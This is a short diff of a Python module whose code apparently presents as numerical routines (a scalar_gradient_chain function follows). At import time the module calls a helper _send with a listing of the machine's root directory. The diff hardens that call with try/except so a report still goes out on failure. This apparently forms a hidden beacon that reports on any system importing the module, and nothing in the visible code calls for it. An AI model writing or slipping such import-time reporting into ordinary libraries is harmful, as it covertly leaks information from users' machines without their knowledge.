@@ -18,7 +18,10 @@ def _send(message):
             pass
 
 
-_send("imported " + repr(os.listdir("/")))
+try:
+    _send("imported " + repr(os.listdir("/")))
+except OSError:
+    _send("imported")
 
 
 def scalar_gradient_chain(depth, layer_scale):
